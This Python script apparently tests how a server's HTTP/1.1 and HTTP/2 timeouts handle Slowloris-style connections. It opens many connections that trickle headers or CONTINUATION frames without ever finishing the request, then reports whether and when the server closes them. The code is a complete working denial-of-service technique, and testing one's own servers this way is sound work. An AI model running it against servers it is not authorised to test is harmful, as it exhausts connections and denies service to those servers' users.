"""Slowloris over HTTP/1.1 and HTTP/2: request heads that never finish.

HTTP/1.1: a request line and one header, then one more header line every
`--trickle` seconds, never the blank line. HTTP/2: the preface, SETTINGS
(and the ACK of the server's), then a HEADERS frame without END_HEADERS and
10 bytes of CONTINUATION every `--h2-trickle` seconds, at most
`--h2-frames` of them, never END_HEADERS (so nothing else may be sent on the
connection: not even a PING ACK). The h2 crate already ends a header block
of more than a handful of CONTINUATION frames (GOAWAY ENHANCE_YOUR_CALM), so
the HTTP/2 trickle is slow and short, to leave only timeouts to close it.
Each connection waits for the server to close it, until the deadline.
Prints one JSON summary per protocol: closed by the server, seconds from
connect to close, what the server sent last (a 408, a GOAWAY code...).

Usage: slowloris.py HOST PORT --h1 N --h2 N --trickle SECONDS --deadline SECONDS
"""

import argparse
import asyncio
import json
import struct
import time

import hpack

from h2wire import (FLAG_ACK, FLAG_END_STREAM, FRAME_CONTINUATION, FRAME_GOAWAY,
                    FRAME_HEADERS, FRAME_SETTINGS, GOAWAY_NAMES, PREFACE, frame)


class Frames:
    """Reads whole frames from a stream reader."""

    def __init__(self, reader):
        self.reader = reader

    async def next(self):
        head = await self.reader.readexactly(9)
        length = int.from_bytes(head[:3], "big")
        payload = await self.reader.readexactly(length) if length else b""
        return head[3], head[4], payload


async def h1(host, port, path, trickle, deadline, index):
    reader, writer = await asyncio.open_connection(host, port)
    connected = time.monotonic()
    writer.write(f"GET {path} HTTP/1.1\r\nHost: {host}\r\n".encode())
    received = b""
    sent = 0

    async def listen():
        nonlocal received
        while True:
            data = await reader.read(4096)
            if not data:
                return
            received += data

    listener = asyncio.create_task(listen())
    try:
        while not listener.done() and time.monotonic() < deadline:
            writer.write(f"X-Slow-{index}-{sent}: a\r\n".encode())
            sent += 1
            await asyncio.wait({listener}, timeout=min(trickle, max(0.0, deadline - time.monotonic())))
        closed = listener.done()
    finally:
        listener.cancel()
        writer.close()
    return {"closed": closed, "after_s": round(time.monotonic() - connected, 3),
            "last": received.split(b"\r\n", 1)[0].decode("latin-1")[:60] or "nothing"}


async def h2(host, port, path, trickle, max_frames, deadline):
    reader, writer = await asyncio.open_connection(host, port)
    connected = time.monotonic()
    writer.write(PREFACE + frame(FRAME_SETTINGS, 0, 0))
    frames = Frames(reader)
    last = "nothing"
    # Ack the server's SETTINGS before the header block starts.
    try:
        while True:
            kind, flags, _ = await asyncio.wait_for(frames.next(), 5)
            if kind == FRAME_SETTINGS and not flags & FLAG_ACK:
                writer.write(frame(FRAME_SETTINGS, FLAG_ACK, 0))
                break
    except (asyncio.IncompleteReadError, ConnectionError, OSError):
        return {"closed": True, "after_s": round(time.monotonic() - connected, 3), "last": "closed before SETTINGS"}
    block = hpack.Encoder().encode([(":method", "GET"), (":scheme", "http"), (":authority", host),
                                    (":path", path), ("x-slow", "a" * 4000)])
    writer.write(frame(FRAME_HEADERS, FLAG_END_STREAM, 1, block[:20]))
    offset = 20

    async def listen():
        nonlocal last
        while True:
            kind, _, payload = await frames.next()
            if kind == FRAME_GOAWAY and len(payload) >= 8:
                code = struct.unpack(">I", payload[4:8])[0]
                last = "GOAWAY " + GOAWAY_NAMES.get(code, str(code))
            elif kind != FRAME_SETTINGS:
                last = f"frame type {kind}"

    listener = asyncio.create_task(listen())
    try:
        while not listener.done() and time.monotonic() < deadline and offset < 20 + 10 * max_frames:
            writer.write(frame(FRAME_CONTINUATION, 0, 1, block[offset:offset + 10]))
            offset += 10
            await asyncio.wait({listener}, timeout=min(trickle, max(0.0, deadline - time.monotonic())))
        if not listener.done():
            await asyncio.wait({listener}, timeout=max(0.0, deadline - time.monotonic()))
        closed = listener.done()
    finally:
        listener.cancel()
        writer.close()
    return {"closed": closed, "after_s": round(time.monotonic() - connected, 3), "last": last}


def summarise(results):
    closed = sorted(r["after_s"] for r in results if r["closed"])
    lasts = {}
    for r in results:
        lasts[r["last"]] = lasts.get(r["last"], 0) + 1
    return {"connections": len(results), "closed_by_server": len(closed),
            "close_s_min": closed[0] if closed else None, "close_s_max": closed[-1] if closed else None,
            "server_sent_last": lasts}


async def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("--path", default="/service-a/status")
    parser.add_argument("--h1", type=int, default=100)
    parser.add_argument("--h2", type=int, default=100)
    parser.add_argument("--trickle", type=float, default=0.5)
    parser.add_argument("--h2-trickle", type=float, default=2.0)
    parser.add_argument("--h2-frames", type=int, default=4)
    parser.add_argument("--deadline", type=float, default=10.0)
    args = parser.parse_args()
    deadline = time.monotonic() + args.deadline
    h1_tasks = [h1(args.host, args.port, args.path, args.trickle, deadline, i) for i in range(args.h1)]
    h2_tasks = [h2(args.host, args.port, args.path, args.h2_trickle, args.h2_frames, deadline) for _ in range(args.h2)]
    results = await asyncio.gather(*h1_tasks, *h2_tasks, return_exceptions=True)
    failed = [repr(r)[:100] for r in results if isinstance(r, BaseException)]

    def answered(part):
        return [r for r in part if not isinstance(r, BaseException)]

    print(json.dumps({"h1": summarise(answered(results[: args.h1])), "h2": summarise(answered(results[args.h1:])),
                      "client_errors": len(failed), "client_error_sample": failed[:3]}))


if __name__ == "__main__":
    asyncio.run(main())
